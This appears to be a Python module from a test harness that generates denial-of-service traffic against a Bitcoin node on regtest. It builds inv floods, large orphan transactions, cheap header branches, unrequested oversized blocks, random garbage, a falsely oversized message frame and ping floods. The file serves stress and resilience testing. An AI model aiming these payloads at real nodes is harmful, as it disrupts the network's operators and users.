"""What the attackers send. Each attack is a function(share, shares, world) that yields the bytes that attacker number
`share` of `shares` sends after its handshake; `world` is what they know of the node's chain. Nothing here costs the
attacker more than a laptop's seconds: on regtest a proof of work takes two hashes.
"""

import hashlib
import os
import struct
from dataclasses import dataclass

from bitcoin.core import COutPoint, CTransaction, CTxIn, CTxOut
from bitcoin.core.script import OP_RETURN, OP_TRUE, CScript
from foreign_peer import EASY_BITS, coinbase, frame

# Totals, divided among the attackers.
WEAK_HEADERS = 630_000
SIBLINGS = 600
SIBLING_BYTES = 860_000
# For each attacker.
INV_ENTRIES = 5_000
ORPHANS = 12
ORPHAN_INPUTS = 2_300
GARBAGE_BYTES = 200_000
PINGS = 20_000

INV_WTXID = 5
BRANCH_HEADERS = 50


@dataclass
class World:
    headers: list  # the node's chain as CBlockHeader, by height


def double_sha256(data):
    return hashlib.sha256(hashlib.sha256(data).digest()).digest()


def compact_size(number):
    if number < 0xFD:
        return bytes([number])
    return b"\xfd" + struct.pack("<H", number) if number <= 0xFFFF else b"\xfe" + struct.pack("<I", number)


def header_above(previous, time, root):
    """80 bytes with a proof of work for regtest, and their hash."""
    start = struct.pack("<i", 0x20000000) + previous + root + struct.pack("<II", time, EASY_BITS)
    nonce = 0
    while True:
        header = start + struct.pack("<I", nonce)
        block_hash = double_sha256(header)
        if block_hash[31] < 0x7F:
            return header, block_hash
        nonce += 1


def nothing(share, shares, world):
    yield from ()


def invs(share, shares, world):
    entries = b"".join(struct.pack("<I", INV_WTXID) + os.urandom(32) for _ in range(INV_ENTRIES))
    yield frame(b"inv", compact_size(INV_ENTRIES) + entries)


def orphans(share, shares, world):
    for _ in range(ORPHANS):
        inputs = [CTxIn(COutPoint(os.urandom(32), 0)) for _ in range(ORPHAN_INPUTS)]
        note = CTxOut(0, CScript([OP_RETURN, os.urandom(20)]))
        yield frame(b"tx", CTransaction(inputs, [CTxOut(1000, CScript([OP_TRUE])), note]).serialize())


def branches(share, shares, fork):
    """Headers in branches of BRANCH_HEADERS above `fork`."""
    for _ in range(WEAK_HEADERS // shares // BRANCH_HEADERS):
        previous, time, message = fork.GetHash(), fork.nTime, compact_size(BRANCH_HEADERS)
        for _ in range(BRANCH_HEADERS):
            time += 1
            header, previous = header_above(previous, time, os.urandom(32))
            message += header + b"\0"
        yield frame(b"headers", message)


def weak_headers(share, shares, world):
    """Far below the tip: with less work than a node need store."""
    yield from branches(share, shares, world.headers[0])


def near_headers(share, shares, world):
    """As much work as the tip's: such headers are stored, but not for ever."""
    yield from branches(share, shares, world.headers[-1 - BRANCH_HEADERS])


def siblings(share, shares, world):
    """Large blocks that nobody asked for, 50 blocks below the tip."""
    parent, height = world.headers[-51], len(world.headers) - 50
    for _ in range(SIBLINGS // shares + (1 if share < SIBLINGS % shares else 0)):
        filler = CScript(b"\x6a" + os.urandom(16) + bytes(SIBLING_BYTES))
        body = coinbase(height, script_pubkey=filler, extra=os.urandom(8)).serialize()
        header, _ = header_above(parent.GetHash(), parent.nTime + 1, double_sha256(body))
        yield frame(b"block", header + b"\x01" + body)


def garbage(share, shares, world):
    while True:
        yield os.urandom(GARBAGE_BYTES)


def oversize(share, shares, world):
    """A message that claims to be larger than the protocol allows, then its payload."""
    start = frame(b"tx", b"")
    yield start[:16] + struct.pack("<I", 32_000_000) + start[20:]
    for _ in range(160):
        yield bytes(200_000)


def pings(share, shares, world):
    one = b"".join(frame(b"ping", os.urandom(8)) for _ in range(100))
    for _ in range(PINGS // 100):
        yield one


ATTACKS = {"none": nothing, "invs": invs, "orphans": orphans, "weak-headers": weak_headers,
           "near-headers": near_headers, "siblings": siblings, "garbage": garbage, "oversize": oversize,
           "pings": pings}
